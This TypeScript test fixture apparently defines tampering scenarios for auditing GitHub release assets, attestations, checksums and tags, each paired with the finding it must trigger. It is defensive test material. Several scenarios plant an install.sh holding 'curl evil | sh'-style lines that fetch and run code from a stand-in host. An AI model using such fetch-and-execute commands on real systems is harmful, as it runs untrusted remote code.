/** Kinds of damage, each planted into a release of its own, with where an audit must find it and as what. */
import { BUNDLE_HOST, type Asset } from '../../../sandbox/github/index.ts'
import { sha256Digest } from '../../../sandbox/github/release.ts'
import type { HistoryRelease, ReleaseOptions, Signing } from '../../../sandbox/history.ts'
import type { JobIdentity } from '../../../sandbox/actions/job.ts'
import type { AuditWorld } from './world.ts'

/** Where a finding must be: null, the release as a whole. */
export interface Expected {
  readonly asset: string | null
  readonly verdict: string
  readonly code: string
}

export interface Damage {
  readonly what: string
  /** How the release is made. */
  readonly options?: ReleaseOptions
  /** Done to it afterwards; default: nothing, it was made so. */
  readonly plant?: (release: HistoryRelease, world: AuditWorld) => void
  /** The gravest finding of every file that has one; every other file must be verified. */
  readonly expected: (release: HistoryRelease) => readonly Expected[]
  /** Shows only where the bytes themselves are hashed. */
  readonly needsDownload?: boolean
}

const FOREIGN = {
  owner: 'mallory',
  ownerId: 666,
  name: 'widget',
  id: 66,
  visibility: 'public',
} as const
const FOREIGN_WORKFLOW = 'mallory/widget/.github/workflows/release.yml'

const asset = ({ release }: HistoryRelease, name: string): Asset => {
  const found = release.assets.find(one => one.name === name)
  if (found === undefined) throw new Error(`there is no ${name}`)
  return found
}

const replace = (
  target: Asset,
  text: string,
  options: { readonly keepDigest?: boolean } = {},
): void => {
  target.bytes = Buffer.from(text)
  target.size = target.bytes.length
  if (options.keepDigest !== true) target.digest = sha256Digest(target.bytes)
}

/** Every binary, SBOM, checksums and evidence file, signed in one wrong way. */
const allOf = (release: HistoryRelease, verdict: string, code: string): readonly Expected[] =>
  release.release.assets.map(({ name }) => ({ asset: name, verdict, code }))

const signedBy = (what: string, code: string, signing: (tag: string) => Signing): Damage => ({
  what,
  options: { unattested: true },
  plant: (release, { history }) => {
    for (const { name, bytes } of release.release.assets) {
      for (const bundle of history.bundlesOf(
        { name, bytes },
        release.tag,
        release.commit,
        signing(release.tag),
      )) {
        history.store(bundle)
      }
    }
  },
  expected: release => allOf(release, 'wrong-signer', code),
})

const jobOf =
  (job: (tag: string) => Partial<JobIdentity>) =>
  (tag: string): Signing => ({ job: job(tag) })

const forget = (
  { stored }: HistoryRelease,
  world: AuditWorld,
  name: string,
  which: (index: number) => boolean = () => true,
): void => {
  const all = world.sandbox.github.attestations as { readonly id: number }[] as unknown[]
  for (const [index, one] of (stored.get(name) ?? []).entries()) {
    if (which(index)) all.splice(all.indexOf(one), 1)
  }
}

const blobOf = ({ stored }: HistoryRelease, name: string): RegExp => {
  const [first] = stored.get(name) ?? []
  return new RegExp(`/attestations/\\d+/${first?.id ?? 0}\\.json\\.sn$`)
}

const only = (name: string | null, verdict: string, code: string): readonly Expected[] => [
  { asset: name, verdict, code },
]

export const DAMAGES: readonly Damage[] = [
  {
    what: 'a binary exchanged, its digest with it',
    plant: release => replace(asset(release, release.binary), 'malware'),
    expected: ({ binary }) => only(binary, 'digest-drift', 'AUDIT_DIGEST_DRIFT'),
  },
  {
    what: 'a binary exchanged behind its digest',
    plant: release => {
      const target = asset(release, release.binary)
      replace(target, 'x'.repeat(target.size), { keepDigest: true })
    },
    expected: ({ binary }) => only(binary, 'digest-drift', 'AUDIT_DIGEST_DRIFT'),
    needsDownload: true,
  },
  {
    what: 'an SBOM exchanged',
    plant: release =>
      replace(asset(release, `${release.binary}.cdx.json`), '{"bomFormat":"CycloneDX"}'),
    expected: ({ binary }) => only(`${binary}.cdx.json`, 'digest-drift', 'AUDIT_DIGEST_DRIFT'),
  },
  {
    what: 'a stowaway without any attestation',
    plant: (release, { sandbox }) => {
      const stowaway = sandbox.github.plantStarterAsset(release.release, 'install.sh')
      stowaway.state = 'uploaded'
      replace(stowaway, 'curl evil | sh')
    },
    expected: () => only('install.sh', 'unattested', 'AUDIT_UNATTESTED'),
  },
  {
    what: 'a stowaway that its uploader attested in a repository of his own',
    plant: (release, { sandbox, history }) => {
      const stowaway = sandbox.github.plantStarterAsset(release.release, 'install.sh')
      stowaway.state = 'uploaded'
      replace(stowaway, 'curl evil | sh -x')
      const job = {
        repository: FOREIGN,
        jobWorkflowRef: `${FOREIGN_WORKFLOW}@refs/tags/${release.tag}`,
      }
      for (const bundle of history.bundlesOf(stowaway, release.tag, release.commit, { job })) {
        history.store(bundle)
      }
    },
    expected: () => only('install.sh', 'wrong-signer', 'REPOSITORY_MISMATCH'),
  },
  {
    what: 'evidence for a stowaway that nobody signed',
    plant: (release, { sandbox, history }) => {
      const stowaway = sandbox.github.plantStarterAsset(release.release, 'install.sh')
      stowaway.state = 'uploaded'
      replace(stowaway, 'curl evil | sh -e')
      const forged = history.bundlesOf(stowaway, release.tag, release.commit, {
        defect: 'foreign-key',
      })
      const evidence = sandbox.github.plantStarterAsset(release.release, 'more.intoto.jsonl')
      evidence.state = 'uploaded'
      replace(evidence, forged.map(bundle => `${JSON.stringify(bundle)}\n`).join(''))
    },
    expected: () => [
      { asset: 'install.sh', verdict: 'wrong-signer', code: 'SIGNATURE_INVALID' },
      { asset: 'more.intoto.jsonl', verdict: 'unattested', code: 'AUDIT_UNATTESTED' },
    ],
  },
  signedBy(
    'another workflow of the repository',
    'SIGNER_MISMATCH',
    jobOf(tag => ({
      jobWorkflowRef: `octo-org/widget/.github/workflows/nightly.yml@refs/tags/${tag}`,
      workflowRef: `octo-org/widget/.github/workflows/nightly.yml@refs/tags/${tag}`,
    })),
  ),
  signedBy(
    'a build of a branch',
    'REF_MISMATCH',
    jobOf(() => ({ ref: 'refs/heads/main' })),
  ),
  signedBy(
    'a self-hosted runner',
    'RUNNER_REFUSED',
    jobOf(() => ({ runnerEnvironment: 'self-hosted' })),
  ),
  signedBy(
    'a run that a stranger’s pull request started',
    'TRIGGER_REFUSED',
    jobOf(() => ({ eventName: 'pull_request_target' })),
  ),
  signedBy(
    'a repository of the same name and another id',
    'REPOSITORY_ID_MISMATCH',
    jobOf(() => ({
      repository: {
        owner: 'octo-org',
        ownerId: 77,
        name: 'widget',
        id: 9999,
        visibility: 'public',
      },
    })),
  ),
  signedBy('a key that nobody certified', 'SIGNATURE_INVALID', () => ({ defect: 'foreign-key' })),
  signedBy('an authority of the same name', 'CERTIFICATE_UNTRUSTED', () => ({
    defect: 'foreign-authority',
  })),
  signedBy('a log that nobody knows', 'LOG_ENTRY_INVALID', () => ({ defect: 'foreign-log' })),
  signedBy('a signature without a log entry', 'LOG_ENTRY_MISSING', () => ({
    defect: 'no-proof-of-time',
  })),
  signedBy('a provenance that contradicts its certificate', 'PROVENANCE_CONTRADICTION', () => ({
    predicate: provenance => ({
      ...provenance,
      runDetails: {
        builder: { id: 'https://github.com/mallory/x/.github/workflows/x.yml@refs/heads/x' },
      },
    }),
  })),
  {
    what: 'the attestations of a binary deleted, the evidence file still there',
    plant: (release, world) => forget(release, world, release.binary),
    expected: ({ binary }) => only(binary, 'evidence-only', 'AUDIT_EVIDENCE_ONLY'),
  },
  {
    what: 'the provenance of a binary deleted, its SBOM attestation left',
    options: { evidence: false },
    plant: (release, world) => forget(release, world, release.binary, index => index === 0),
    expected: ({ binary }) => only(binary, 'attestation-missing', 'AUDIT_ATTESTATION_LOST'),
  },
  {
    what: 'the attestation of the evidence file deleted',
    plant: (release, world) => forget(release, world, release.evidence),
    expected: ({ evidence }) => only(evidence, 'unattested', 'AUDIT_UNATTESTED'),
  },
  {
    what: 'a tag moved',
    plant: ({ tag }, { repository }) => void repository.setTag(tag, 'd'.repeat(40)),
    expected: release => allOf(release, 'tag-moved', 'TAG_MOVED'),
  },
  {
    what: 'an annotated tag moved',
    options: { annotated: true },
    plant: ({ tag }, { repository }) =>
      void repository.setTag(tag, 'e'.repeat(40), { annotated: true }),
    expected: release => allOf(release, 'tag-moved', 'TAG_MOVED'),
  },
  {
    what: 'a tag deleted',
    plant: ({ tag }, { repository }) => void repository.git.refs.delete(`refs/tags/${tag}`),
    expected: release => allOf(release, 'tag-moved', 'TAG_MOVED'),
  },
  {
    what: 'checksums that name another digest of a binary',
    options: {
      checksums: text => text.replace(/^[0-9a-f]{64}(?=  widget-\S+-linux-0$)/m, 'a'.repeat(64)),
    },
    expected: ({ binary }) => only(binary, 'checksum-drift', 'AUDIT_CHECKSUM_DRIFT'),
  },
  {
    what: 'a file deleted that the checksums list',
    plant: ({ release, binary }) => {
      release.assets.splice(
        release.assets.findIndex(one => one.name === binary),
        1,
      )
    },
    expected: ({ checksums }) => only(checksums, 'checksum-drift', 'AUDIT_CHECKSUM_DRIFT'),
  },
  {
    what: 'checksums that are none',
    options: { checksums: () => 'nothing to see here\n' },
    expected: ({ checksums }) => only(checksums, 'unreadable', 'AUDIT_ASSET_UNREADABLE'),
  },
  {
    what: 'two files that changed their names',
    options: { binaries: 2 },
    plant: release => {
      const other = release.binary.replace(/0$/, '1')
      const [a, b] = [asset(release, release.binary), asset(release, other)]
      ;[a.name, b.name] = [b.name, a.name]
    },
    expected: ({ binary }) => [
      { asset: binary, verdict: 'digest-drift', code: 'AUDIT_DIGEST_DRIFT' },
      { asset: binary.replace(/0$/, '1'), verdict: 'digest-drift', code: 'AUDIT_DIGEST_DRIFT' },
    ],
  },
  {
    what: 'a binary of another release, with its attestation',
    plant: (release, { history }) => {
      const target = asset(release, release.binary)
      replace(target, 'an old version with known holes')
      for (const bundle of history.bundlesOf(target, 'v0.0.1', 'c'.repeat(40)))
        history.store(bundle)
    },
    // The evidence of this very release outranks what was signed for another one.
    expected: ({ binary }) => only(binary, 'digest-drift', 'AUDIT_DIGEST_DRIFT'),
  },
  {
    what: 'the remains of a failed upload',
    plant: ({ release }, { sandbox }) =>
      void sandbox.github.plantStarterAsset(release, 'widget.zip'),
    expected: () => only('widget.zip', 'unreadable', 'AUDIT_ASSET_UNREADABLE'),
  },
  {
    what: 'a bundle whose blob is gone',
    options: { evidence: false },
    plant: (release, { sandbox }) =>
      sandbox.faults.inject({
        ...{ host: BUNDLE_HOST, path: blobOf(release, release.binary), times: Infinity },
        ...{ kind: 'status', status: 404, body: 'BlobNotFound' },
      }),
    expected: ({ binary }) => only(binary, 'unreadable', 'BUNDLE_UNREADABLE'),
  },
  {
    what: 'a bundle whose blob is cut off',
    options: { evidence: false },
    plant: (release, { sandbox }) =>
      sandbox.faults.inject({
        ...{ host: BUNDLE_HOST, path: blobOf(release, release.binary), times: Infinity },
        ...{ kind: 'shorten', bytes: 100 },
      }),
    expected: ({ binary }) => only(binary, 'unreadable', 'BUNDLE_UNREADABLE'),
  },
  {
    what: 'a file that cannot be downloaded, and has no digest',
    plant: (release, { sandbox }) => {
      const target = asset(release, release.binary)
      target.digest = null
      for (const [host, path] of [
        ['github.com', new RegExp(`/releases/download/${release.tag}/${release.binary}$`)],
        ['api.github.com', new RegExp(`/releases/assets/${target.id}$`)],
      ] as const) {
        sandbox.faults.inject({ host, path, kind: 'status', status: 404, times: Infinity })
      }
    },
    expected: ({ binary }) => only(binary, 'unreadable', 'AUDIT_ASSET_UNREADABLE'),
  },
  {
    what: 'a file of an immutable release exchanged all the same',
    options: { immutable: true, evidence: false },
    plant: (release, { history }) => {
      const target = asset(release, release.binary)
      replace(target, 'not what GitHub attested')
      for (const bundle of history.bundlesOf(target, release.tag, release.commit))
        history.store(bundle)
    },
    expected: ({ binary }) => only(binary, 'digest-drift', 'AUDIT_DIGEST_DRIFT'),
  },
  {
    what: 'a file of an immutable release gone',
    options: {
      immutable: true,
      checksums: text =>
        text
          .split('\n')
          .filter(line => !line.endsWith('.json'))
          .join('\n'),
    },
    plant: ({ release }) => {
      release.assets.splice(
        release.assets.findIndex(one => one.name.endsWith('.cdx.json')),
        1,
      )
    },
    expected: () => only(null, 'digest-drift', 'AUDIT_ASSET_REMOVED'),
  },
  {
    what: 'an immutable release that GitHub did not attest',
    options: { immutable: true, unattestedByGitHub: true },
    expected: () => only(null, 'unreadable', 'RELEASE_ATTESTATION_MISSING'),
  },
  {
    what: 'an attestation of a release that GitHub did not sign',
    options: { immutable: true, unattestedByGitHub: true },
    plant: (release, { history, repository, sandbox }) => {
      const forged = history.sign(
        {
          ...{
            name: release.binary,
            sha256: asset(release, release.binary).digest?.slice(7) ?? '',
          },
          ...{
            predicateType: 'https://in-toto.io/attestation/release/v0.2',
            predicate: { tag: release.tag },
          },
        },
        jobFor(release.tag, release.commit),
      )
      const bundle = forged as Readonly<Record<string, unknown>>
      sandbox.github.plantAttestation({ repository, bundle, initiator: 'github' })
    },
    expected: () => only(null, 'wrong-signer', 'RELEASE_ATTESTATION_MISMATCH'),
  },
]

function jobFor(tag: string, commit: string): JobIdentity {
  const workflow = `octo-org/widget/.github/workflows/release.yml@refs/tags/${tag}`
  return {
    repository: { owner: 'octo-org', ownerId: 77, name: 'widget', id: 4242, visibility: 'public' },
    ...{
      ref: `refs/tags/${tag}`,
      sha: commit,
      eventName: 'push',
      actor: 'octocat',
      workflow: 'Release',
    },
    ...{
      workflowRef: workflow,
      workflowSha: commit,
      jobWorkflowRef: workflow,
      jobWorkflowSha: commit,
    },
    ...{ runId: 4, runNumber: 4, runAttempt: 1, job: 'attest', runnerEnvironment: 'github-hosted' },
    permissions: {},
  }
}
